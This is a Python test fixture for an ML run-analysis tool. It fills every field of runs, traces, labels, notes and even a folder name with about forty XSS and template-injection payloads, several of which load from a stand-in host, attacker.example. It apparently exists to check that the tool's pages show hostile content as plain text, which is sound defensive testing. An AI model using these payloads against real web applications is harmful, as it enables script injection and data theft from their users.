"""A run and a study in which everything that a model, a client or a task can write is an attack."""

import json
from pathlib import Path

from tests.unit.analysis.builders import RunBuilder

from practicum.core.sample import Episode
from practicum.core.score import Label, Score
from practicum.core.task import Outcome, Task
from practicum.core.trace import (
    Failure,
    Message,
    Node,
    SampledSpan,
    StopReason,
    ToolCall,
    ToolSpec,
    Trace,
)
from practicum.store.trace_store import SqliteTraceStore

RAN = "window.ran=(window.ran||0)+1"
AWAY = "http://attacker.example/?"
"""No page may ask for anything there."""

PAYLOADS = (
    f"<script>{RAN}</script>",
    f"<SCRIPT SRC={AWAY}1></SCRIPT>",
    f"</pre><script>{RAN}</script>",
    f"</title><script>{RAN}</script>",
    f"</textarea><script>{RAN}</script>",
    f"</script><script>{RAN}</script>",
    f"<img src=x onerror={RAN}>",
    f"<img src={AWAY}2>",
    f"<svg onload={RAN}>",
    f"<svg><script>{RAN}</script></svg>",
    f"<body onload={RAN}>",
    f"<iframe src=javascript:{RAN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    f"<object data=javascript:{RAN}></object>",
    f"<embed src={AWAY}3>",
    f"<link rel=stylesheet href={AWAY}4>",
    f"<style>@import '{AWAY}5';</style>",
    f"<style>*{{background:url({AWAY}6)}}</style>",
    f"<base href={AWAY}7>",
    f"<meta http-equiv=refresh content='0;url={AWAY}8'>",
    f"<form action={AWAY}9><input name=key autofocus onfocus={RAN}></form>",
    f"<details open ontoggle={RAN}>x</details>",
    f"<video><source onerror={RAN}></video>",
    f"<audio src=x onerror={RAN}></audio>",
    f"<a href=javascript:{RAN}>run first</a>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RAN}></style></mglyph></table></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RAN}>'></noscript>",
    f'"><script>{RAN}</script>',
    f"'><script>{RAN}</script>",
    f'" onmouseover="{RAN}" autofocus onfocus="{RAN}" x="',
    f"' onfocus='{RAN}' autofocus x='",
    f"{{{{ ''.__class__.__mro__ }}}}<script>{RAN}</script>",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    f"${{{RAN}}}`${{{RAN}}}`",
    f"<!--><script>{RAN}</script>-->",
    f"<![CDATA[<script>{RAN}</script>]]>",
    f"<script type=module>import '{AWAY}10'</script>",
    f"javascript:{RAN}//",
    f"\u2028\u2029<script>{RAN}</script>\u202e",
    f"</span></div></main><script>{RAN}</script>\x1b]0;title\x07",
)
"""All at once in every field; a page that shows a field shows them as text."""
EVERYTHING = " ".join(PAYLOADS)


def hostile_episode(name: str, step: int, *, fails: bool = False) -> Episode:
    """An episode that says all of it wherever anything can be said."""
    bad = EVERYTHING
    call = ToolCall(name=bad, arguments={bad: bad, "nested": {"deep": [bad]}}, id=bad)
    span = SampledSpan(logprobs=(-0.5, -2.0), loss_mask=(True, False), fingerprint=bad)
    asked = (Message(role="system", content=bad), Message(role="user", content=bad))
    said = Message(role="assistant", content=bad, reasoning=bad, tool_calls=(call,))
    shown = Message(role="tool", content=bad, tool_call_id=bad, is_error=True)
    nodes = (
        Node(parent=None, messages=asked, token_ids=(1, 2)),
        Node(parent=0, messages=(said,), token_ids=(4, 5), sampled=span, duration_s=1.5),
        Node(parent=1, messages=(shown,), token_ids=(6,)),
        Node(parent=0, messages=(said,), token_ids=(7, 8), sampled=span),
    )
    trace = Trace(
        id=f"train/{step}/0/{bad}/{name}",
        task_id=bad,
        env=bad,
        nodes=nodes,
        stop=StopReason.ENVIRONMENT_FAILED if fails else StopReason.FINISHED,
        failure=Failure(kind=bad, message=bad) if fails else None,
        model=bad,
        tools=(ToolSpec(name=bad, description=bad, parameters={bad: bad}),),
        source=bad,
        client=bad,
    )
    outcome = Outcome(success=True, turn_rewards=(), evidence={bad: bad, "files": {bad: [bad]}})
    score = Score(components={bad: 1.0 + step, "b": 0.5}, weights={bad: 0.5}, reason=bad)
    return Episode(trace=trace, outcome=None if fails else outcome, score=score)


def hostile_task() -> Task:
    return Task(
        id=EVERYTHING,
        env=EVERYTHING,
        split="train",
        instruction=EVERYTHING,
        data={EVERYTHING: EVERYTHING},
    )


def write_hostile_runs(runs_dir: Path) -> None:
    """`bad`, with everything in its store, metrics and notes; and a folder with a bad name."""
    own = {"env": {"name": "math"}, "model": {"name": "tiny"}}
    build = RunBuilder(runs_dir, "bad", config=own).begin().evaluate(0, 10, n=20)
    build.steps(1, 3, **{f"reward_{EVERYTHING}": 1.0, "stage": EVERYTHING})
    build._log.append("recovery", step=2, values={"text": EVERYTHING})
    build.checkpoint(3, best=True).evaluate(3, 12, n=20)
    run = build.done()
    facts = json.loads(run.facts_path.read_text())
    facts["hardware"] = {EVERYTHING: EVERYTHING}
    facts["versions"] = {EVERYTHING: EVERYTHING}
    facts["attempts"][0] |= {"host": EVERYTHING, "device": EVERYTHING, "sandbox": EVERYTHING}
    run.facts_path.write_text(json.dumps(facts))
    (run.path / "notes.json").write_text(json.dumps({"text": EVERYTHING, "tags": [EVERYTHING]}))
    with SqliteTraceStore(run.traces_path) as store:
        for number, fails in enumerate((False, False, True)):
            one = hostile_episode(str(number), 3, fails=fails)
            store.add(one, attempt=1, step=3, purpose="train", task=hostile_task())
        again = hostile_episode("9", 2)
        store.add(again, attempt=1, step=2, purpose="train", task=hostile_task())
        for is_suggestion in (True, False):
            store.add_label(
                Label(
                    episode_id=again.trace.id,
                    value=1.0,
                    author=EVERYTHING,
                    created_at=1.0,
                    note=EVERYTHING,
                    is_suggestion=is_suggestion,
                    correction=EVERYTHING,
                )
            )
    named = runs_dir / "<img src=x onerror=ran=1>"
    named.mkdir()
    (named / "run.json").write_text(json.dumps({"name": EVERYTHING}))
    unreadable = RunBuilder(runs_dir, "torn", config=own).begin().done()
    unreadable.config_path.write_text(f"model: {json.dumps(EVERYTHING)}\nseed: {EVERYTHING!r}\n")
